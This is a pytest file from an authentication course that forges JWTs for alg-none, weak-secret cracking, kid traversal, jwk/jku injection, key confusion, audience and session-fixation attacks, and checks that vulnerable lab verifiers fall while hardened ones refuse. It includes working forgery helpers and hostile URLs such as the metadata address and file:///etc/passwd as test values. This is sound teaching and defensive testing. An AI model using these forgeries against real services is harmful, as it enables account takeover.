"""Chapter 11's attacks: each one succeeds against its vulnerable verifier and fails against the hardened one.

The attacks are written here again, independently of the chapter, with PyJWT and `cryptography`
for primitives only. Three levels: the verifier functions in Python, the lab's doors over HTTP
(vulnerable and `hardened` side by side), and the course's own server (`CourseServer`) over HTTP.
"""

from __future__ import annotations

import ast
import base64
import hashlib
import hmac
import json
import subprocess
import sys
import time
from pathlib import Path

import httpx
import jwt
import pytest
from conftest import ALICE, SECRET
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa

from authcourse import ConfigurationError, TokenService, load_secret
from authcourse.vulnerable.doors import (
    VULNERABLE_WEAK_SECRET,
    VulnerableFenceError,
    VulnerableTokenError,
    vulnerable_decode_ignoring_audience,
    vulnerable_decode_trusting_alg,
    vulnerable_decode_trusting_jku,
    vulnerable_decode_trusting_jwk,
    vulnerable_decode_with_kid_path,
    vulnerable_decode_with_weak_secret,
    vulnerable_decode_without_verifying,
    vulnerable_is_loopback_url,
)
from authcourse.vulnerable.fence import vulnerable_require_loopback
from authcourse.vulnerable.jwtlab import LAB_AUDIENCE, LAB_DOORS, VULNERABLE_DOORS, VulnerableLabServer
from authcourse.vulnerable.wordlist import candidate_secrets

ROOT = Path(__file__).resolve().parents[1]
ATTACKS = ["unverified", "alg-none", "weak-secret", "kid-traversal", "jwk-injection", "jku-injection", "key-confusion", "audience"]
DOOR_OF = {
    "unverified": "unverified",
    "alg-none": "alg",
    "weak-secret": "weak-secret",
    "kid-traversal": "kid",
    "jwk-injection": "jwk",
    "jku-injection": "jku",
    "key-confusion": "alg",
    "audience": "audience",
}


# The attacker's kit ---------------------------------------------------------------------------


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def parts_of(token: str) -> tuple[dict, dict]:
    header, claims, _ = token.split(".")
    pad = lambda part: part + "=" * (-len(part) % 4)  # noqa: E731
    return json.loads(base64.urlsafe_b64decode(pad(header))), json.loads(base64.urlsafe_b64decode(pad(claims)))


def forge(header: dict, claims: dict, sign=None) -> str:
    signing_input = f"{b64(json.dumps(header).encode())}.{b64(json.dumps(claims).encode())}"
    return f"{signing_input}.{b64(sign(signing_input.encode())) if sign else ''}"


def hs256(key: bytes):
    return lambda data: hmac.digest(key, data, hashlib.sha256)


def rs256(private_key: rsa.RSAPrivateKey):
    return lambda data: private_key.sign(data, padding.PKCS1v15(), hashes.SHA256())


def as_bob(token: str) -> dict:
    """The claims of a token someone was given, turned into bob's (user 2, an admin)."""
    _, claims = parts_of(token)
    return {**claims, "sub": "2"}


def crack(token: str) -> bytes | None:
    signing_input, _, signature = token.rpartition(".")
    wanted = base64.urlsafe_b64decode(signature + "=" * (-len(signature) % 4))
    for guess in candidate_secrets():
        if hmac.compare_digest(hmac.digest(guess, signing_input.encode(), hashlib.sha256), wanted):
            return guess
    return None


def attacker_key() -> tuple[rsa.RSAPrivateKey, dict]:
    key = rsa.generate_private_key(65537, 2048)
    public = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(key.public_key()))
    return key, {**public, "kid": "attacker"}


def pem_from_jwks(jwks: dict) -> bytes:
    public = jwt.PyJWK(jwks["keys"][0]).key
    return public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)


def make_attack(name: str, *, token: str, jwks: dict | None, upload, sister_token: str | None) -> str:
    """The token the attacker sends, starting from what the target gave alice (`token`)."""
    header, _ = parts_of(token)
    claims = as_bob(token)
    if name == "unverified":
        return forge(header, claims, lambda data: base64.urlsafe_b64decode(token.split(".")[2] + "=="))
    if name == "alg-none":
        return forge({"alg": "none", "typ": "JWT"}, claims)
    if name == "weak-secret":
        secret = crack(token)
        return forge({"alg": "HS256", "typ": "JWT"}, claims, hs256(secret)) if secret else forge(header, claims)
    if name == "kid-traversal":
        return forge({"alg": "HS256", "typ": "JWT", "kid": "../../../../../../../../dev/null"}, claims, hs256(b""))
    if name == "jwk-injection":
        key, public = attacker_key()
        return forge({"alg": "RS256", "typ": "JWT", "kid": "attacker", "jwk": public}, claims, rs256(key))
    if name == "jku-injection":
        key, public = attacker_key()
        url = upload("jwks.json", json.dumps({"keys": [public]}))
        return forge({"alg": "RS256", "typ": "JWT", "kid": "attacker", "jku": url}, claims, rs256(key))
    if name == "key-confusion":
        pem = pem_from_jwks(jwks) if jwks else b"no public key published"
        return forge({"alg": "HS256", "typ": "JWT"}, claims, hs256(pem))
    assert name == "audience"
    return sister_token or forge(header, claims)


# The verifier functions, in Python --------------------------------------------------------------


@pytest.fixture(scope="module")
def rsa_key() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(65537, 2048)


def public_pem(key: rsa.RSAPrivateKey) -> bytes:
    return key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)


def claims_for(sub: str, audience: str = LAB_AUDIENCE) -> dict:
    now = int(time.time())
    return {"sub": sub, "iss": audience, "aud": audience, "iat": now, "exp": now + 600, "jti": f"j{now}"}


def hardened_rs256(token: str, key: rsa.RSAPrivateKey) -> dict:
    return jwt.decode(token, key.public_key(), algorithms=["RS256"], audience=LAB_AUDIENCE, issuer=LAB_AUDIENCE)


def test_unverified_signature_fools_only_the_verifier_that_skips_it():
    key = SECRET.encode()
    token = forge({"alg": "HS256"}, claims_for("1"), hs256(key))
    forged = forge({"alg": "HS256"}, as_bob(token), lambda data: b"whatever")
    assert vulnerable_decode_without_verifying(forged)["sub"] == "2"
    with pytest.raises(jwt.InvalidSignatureError):
        TokenService(key).decode_token(forged)


def test_alg_none_fools_only_the_verifier_that_reads_alg(rsa_key):
    forged = forge({"alg": "none"}, claims_for("2"))
    assert vulnerable_decode_trusting_alg(forged, public_pem(rsa_key))["sub"] == "2"
    assert vulnerable_decode_trusting_alg(forge({"alg": "nOnE"}, claims_for("2")), public_pem(rsa_key))["sub"] == "2"
    with pytest.raises(jwt.InvalidAlgorithmError):
        hardened_rs256(forged, rsa_key)
    with pytest.raises(jwt.InvalidTokenError):
        TokenService(SECRET.encode()).decode_token(forged)


def test_key_confusion_fools_only_the_verifier_that_reads_alg(rsa_key):
    forged = forge({"alg": "HS256"}, claims_for("2"), hs256(public_pem(rsa_key)))
    assert vulnerable_decode_trusting_alg(forged, public_pem(rsa_key))["sub"] == "2"
    with pytest.raises(jwt.InvalidAlgorithmError):
        hardened_rs256(forged, rsa_key)
    with pytest.raises(jwt.InvalidKeyError):  # FACTS.md: PyJWT refuses a PEM public key as an HMAC secret
        jwt.decode(forged, public_pem(rsa_key), algorithms=["HS256"])


def test_a_weak_secret_is_cracked_from_the_word_list_and_the_hardened_side_refuses_weak_secrets():
    token = forge({"alg": "HS256"}, claims_for("1"), hs256(VULNERABLE_WEAK_SECRET))
    started = time.perf_counter()
    assert crack(token) == VULNERABLE_WEAK_SECRET
    assert time.perf_counter() - started < 10  # "in seconds", with room for a loaded machine
    forged = forge({"alg": "HS256"}, as_bob(token), hs256(crack(token)))
    assert vulnerable_decode_with_weak_secret(forged)["sub"] == "2"
    with pytest.raises(ConfigurationError):
        load_secret(VULNERABLE_WEAK_SECRET)
    assert crack(TokenService(load_secret(None)).create_access_token(1, "user")) is None


def test_kid_traversal_fools_only_the_verifier_that_opens_the_kid(tmp_path):
    (tmp_path / "lab-key-1").write_bytes(SECRET.encode())
    forged = forge({"alg": "HS256", "kid": "../../../../../../../../dev/null"}, claims_for("2"), hs256(b""))
    assert vulnerable_decode_with_kid_path(forged, tmp_path)["sub"] == "2"
    with pytest.raises(jwt.InvalidSignatureError):
        TokenService(SECRET.encode()).decode_token(forged)


def test_jwk_injection_fools_only_the_verifier_that_uses_the_embedded_key(rsa_key):
    key, public = attacker_key()
    forged = forge({"alg": "RS256", "jwk": public}, claims_for("2"), rs256(key))
    assert vulnerable_decode_trusting_jwk(forged, public_pem(rsa_key))["sub"] == "2"
    with pytest.raises(jwt.InvalidSignatureError):
        hardened_rs256(forged, rsa_key)


def test_jku_injection_fools_only_the_verifier_that_fetches_the_url(rsa_key, lab, lab_http):
    key, public = attacker_key()
    url = lab_http.put("/exploit/mine.json", content=json.dumps({"keys": [public]})).json()["url"]
    forged = forge({"alg": "RS256", "kid": "attacker", "jku": url}, claims_for("2"), rs256(key))
    assert vulnerable_decode_trusting_jku(forged, public_pem(rsa_key))["sub"] == "2"
    with pytest.raises(jwt.InvalidSignatureError):
        hardened_rs256(forged, rsa_key)


def test_a_token_for_another_audience_fools_only_the_verifier_that_ignores_aud():
    shared = SECRET.encode()
    sister = forge({"alg": "HS256"}, claims_for("2", "reports"), hs256(shared))
    assert vulnerable_decode_ignoring_audience(sister, shared)["aud"] == "reports"
    with pytest.raises(jwt.InvalidIssuerError):  # the issuer is checked first, then the audience
        TokenService(shared).decode_token(sister)
    with pytest.raises(jwt.InvalidAudienceError):
        TokenService(shared, issuer="reports").decode_token(sister)


@pytest.mark.parametrize(
    "url",
    [
        "http://example.com/jwks.json",
        "https://10.0.0.1/jwks.json",
        "http://169.254.169.254/latest/meta-data",
        "http://127.0.0.1.nip.io/jwks.json",
        "file:///etc/passwd",
        "http://[::ffff:8.8.8.8]/",
        "not a url",
    ],
)
def test_the_jku_fence_never_fetches_outside_loopback(url, rsa_key):
    key, _ = attacker_key()
    forged = forge({"alg": "RS256", "jku": url}, claims_for("2"), rs256(key))
    assert not vulnerable_is_loopback_url(url)
    with pytest.raises(VulnerableFenceError):
        vulnerable_decode_trusting_jku(forged, public_pem(rsa_key))


@pytest.mark.parametrize("url", ["http://127.0.0.1:1/x", "http://localhost/x", "http://[::1]:8/x", "https://127.8.9.10/"])
def test_the_jku_fence_lets_loopback_through(url):
    assert vulnerable_is_loopback_url(url)


@pytest.mark.parametrize("token", ["", "a.b", "a.b.c", "e30.e30.!!", "W10.e30.", "e30.W10.", "a" * 10000])
def test_every_vulnerable_verifier_refuses_garbage_with_its_own_error(token, rsa_key, tmp_path):
    for decode in (
        vulnerable_decode_without_verifying,
        lambda t: vulnerable_decode_trusting_alg(t, public_pem(rsa_key)),
        vulnerable_decode_with_weak_secret,
        lambda t: vulnerable_decode_with_kid_path(t, tmp_path),
        lambda t: vulnerable_decode_trusting_jwk(t, public_pem(rsa_key)),
        lambda t: vulnerable_decode_trusting_jku(t, public_pem(rsa_key)),
        lambda t: vulnerable_decode_ignoring_audience(t, b"k" * 32),
    ):
        with pytest.raises(VulnerableTokenError):
            decode(token)


def test_even_the_vulnerable_verifiers_refuse_an_expired_token():
    expired = {**claims_for("2"), "exp": int(time.time()) - 1}
    with pytest.raises(VulnerableTokenError, match="expired"):
        vulnerable_decode_without_verifying(forge({"alg": "HS256"}, expired, hs256(b"x")))


# The lab over HTTP: every vulnerable door falls, the hardened door does not ------------------------


@pytest.fixture(scope="module")
def lab():
    with VulnerableLabServer(bcrypt_rounds=4) as server:
        yield server


@pytest.fixture
def lab_http(lab):
    with httpx.Client(base_url=lab.url, timeout=10) as client:
        yield client


def alice_token(http: httpx.Client, path: str) -> str:
    response = http.post(path, json={"email": ALICE[0], "password": ALICE[1]})
    assert response.status_code == 200, response.text
    return response.json()["token"]


def admin(http: httpx.Client, path: str, token: str) -> httpx.Response:
    return http.get(path, headers={"Authorization": f"Bearer {token}"})


def uploader(http: httpx.Client):
    return lambda name, body: http.put(f"/exploit/{name}", content=body).json()["url"]


def attack_lab(http: httpx.Client, name: str, door: str) -> str:
    return make_attack(
        name,
        token=alice_token(http, f"/{door}/login"),
        jwks=http.get("/.well-known/jwks.json").json(),
        upload=uploader(http),
        sister_token=alice_token(http, "/reports/login"),
    )


def test_alice_is_a_plain_user_at_every_door(lab_http):
    for door in LAB_DOORS:
        response = admin(lab_http, f"/{door}/api/admin", alice_token(lab_http, f"/{door}/login"))
        assert response.status_code == 403, (door, response.text)


@pytest.mark.parametrize("name", ATTACKS)
def test_every_attack_opens_its_vulnerable_door_as_bob(lab_http, name):
    door = DOOR_OF[name]
    response = admin(lab_http, f"/{door}/api/admin", attack_lab(lab_http, name, door))
    assert response.status_code == 200, response.text
    assert response.json()["message"] == "Welcome, Bob"


@pytest.mark.parametrize("name", ATTACKS)
def test_every_attack_fails_at_the_hardened_door_of_the_same_server(lab_http, name):
    forged = attack_lab(lab_http, name, "hardened")
    response = admin(lab_http, "/hardened/api/admin", forged)
    assert response.status_code == 401, response.text
    assert response.json() == {"error": "Invalid or expired token"}


@pytest.mark.parametrize("name", ATTACKS)
def test_no_other_vulnerable_door_falls_to_an_attack_that_is_not_its_own(lab_http, name):
    # Each door has one flaw, so that each attack shows one lesson (the unverified door falls to all).
    for door in VULNERABLE_DOORS:
        if door in (DOOR_OF[name], "unverified"):
            continue
        forged = attack_lab(lab_http, name, door)
        assert admin(lab_http, f"/{door}/api/admin", forged).status_code in (400, 401), (name, door)


def test_the_lab_never_answers_500_to_garbage(lab_http):
    for door in (*LAB_DOORS, "nope"):
        for headers in ({}, {"Authorization": "Bearer x.y.z"}, {"Authorization": "Bearer " + "e30." * 3000}, {"Authorization": "Basic abc"}):
            response = lab_http.get(f"/{door}/api/admin", headers=headers)
            assert 400 <= response.status_code < 500, (door, headers, response.text)
            assert "error" in response.json()
        assert lab_http.post(f"/{door}/login", content=b"{nope").status_code in (401, 404)


def test_the_lab_refuses_to_listen_outside_loopback():
    for host in ("0.0.0.0", "192.168.1.10", "::", "example.com"):
        with pytest.raises(ConfigurationError, match="loopback"):
            vulnerable_require_loopback(host)
        with pytest.raises(ConfigurationError):
            VulnerableLabServer(host=host)


# The course's own server over HTTP refuses every attack ---------------------------------------------


@pytest.mark.parametrize("algorithm", ["HS256", "RS256"])
@pytest.mark.parametrize("name", ATTACKS)
def test_the_hardened_course_server_refuses_every_attack(shared_server, lab_http, name, algorithm):
    server = shared_server("token", algorithm=algorithm)
    with httpx.Client(base_url=server.url, timeout=10) as http:
        # The best public key an attacker can find: the server's own, where it publishes one (RS256).
        jwks = http.get("/.well-known/jwks.json").json() if algorithm == "RS256" else None
        forged = make_attack(
            name,
            token=alice_token(http, "/login"),
            jwks=jwks or lab_http.get("/.well-known/jwks.json").json(),
            upload=uploader(lab_http),
            sister_token=alice_token(lab_http, "/reports/login"),
        )
        response = admin(http, "/api/admin", forged)
    assert response.status_code == 401, response.text
    assert response.json() == {"error": "Invalid or expired token"}


def test_the_course_server_refuses_a_token_for_another_audience_even_with_its_own_secret(shared_server):
    server = shared_server("token", secret=SECRET)
    sister = forge({"alg": "HS256", "typ": "JWT"}, claims_for("2", "reports"), hs256(SECRET.encode()))
    with httpx.Client(base_url=server.url, timeout=10) as http:
        response = admin(http, "/api/admin", sister)
    assert response.status_code == 401, response.text


# The fence: nothing but the chapters, the tests and `serve --vulnerable` imports the vulnerable code --------


def test_no_module_of_the_package_imports_the_vulnerable_code_except_the_cli_on_demand():
    fenced = ROOT / "src" / "authcourse" / "vulnerable"
    for path in sorted((ROOT / "src" / "authcourse").rglob("*.py")):
        if path.is_relative_to(fenced):
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        imported = {
            node.module or ""
            for node in ast.walk(tree)
            if isinstance(node, ast.ImportFrom)
        } | {alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names}
        vulnerable = {name for name in imported if "vulnerable" in name.split(".")}
        if path.name == "cli.py" or path.relative_to(ROOT / "src" / "authcourse").as_posix() == "grading/labs.py":
            top_level = {node.module for node in tree.body if isinstance(node, ast.ImportFrom)}
            assert not vulnerable & top_level, f"{path.name} imports the labs only inside the function that needs them"
        else:
            assert not vulnerable, f"{path.name} imports {vulnerable}"


def test_importing_the_grader_and_its_lab_grading_imports_no_vulnerable_code():
    code = (
        "import sys, authcourse.grading.grader, authcourse.grading.labs, authcourse.grading.worker\n"
        "print(sorted(m for m in sys.modules if m.startswith('authcourse.vulnerable')))"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "[]", "grading imports authcourse.vulnerable only inside grade_lab"


def test_every_public_function_of_the_vulnerable_modules_says_vulnerable():
    for name in ("doors.py", "jwtlab.py", "fence.py", "fixation.py", "labs.py", "browserlabs.py"):
        tree = ast.parse((ROOT / "src" / "authcourse" / "vulnerable" / name).read_text(encoding="utf-8"))
        for node in tree.body:
            if isinstance(node, (ast.FunctionDef, ast.ClassDef)) and not node.name.startswith("_"):
                assert "vulnerable" in node.name.lower(), f"{name}: {node.name}"


# Session fixation (chapter 9): the naive login adopts a planted id, ours does not ------------------


def plant_and_login(server) -> tuple[httpx.Response, str]:
    """Mallory logs in, plants her cookie in alice's request, alice logs in; what mallory's cookie shows then."""
    server.users.add_user("mallory@example.com", "correct-horse-battery")
    with httpx.Client(base_url=server.url, timeout=10) as http:
        planted = http.post("/login", json={"email": "mallory@example.com", "password": "correct-horse-battery"}).cookies["sid"]
        http.cookies.clear()
        login = http.post("/login", json={"email": ALICE[0], "password": ALICE[1]}, headers={"Cookie": f"sid={planted}"})
        http.cookies.clear()
        seen = http.get("/api/profile", headers={"Cookie": f"sid={planted}"})
    return login, seen


def test_the_naive_login_hands_the_planted_session_to_the_attacker():
    from authcourse.vulnerable.fixation import VulnerableFixationServer

    with VulnerableFixationServer(bcrypt_rounds=4) as server:
        login, seen = plant_and_login(server)
    assert login.status_code == 200 and "set-cookie" not in login.headers
    assert seen.json()["user"]["email"] == ALICE[0]


def test_our_login_issues_a_new_id_and_the_planted_one_dies(make_server):
    login, seen = plant_and_login(make_server("session"))
    assert login.status_code == 200 and login.cookies["sid"]
    assert seen.status_code == 401, seen.text


def test_the_fixation_server_refuses_to_listen_outside_loopback():
    from authcourse.vulnerable.fixation import VulnerableFixationServer

    with pytest.raises(ConfigurationError):
        VulnerableFixationServer(host="0.0.0.0")
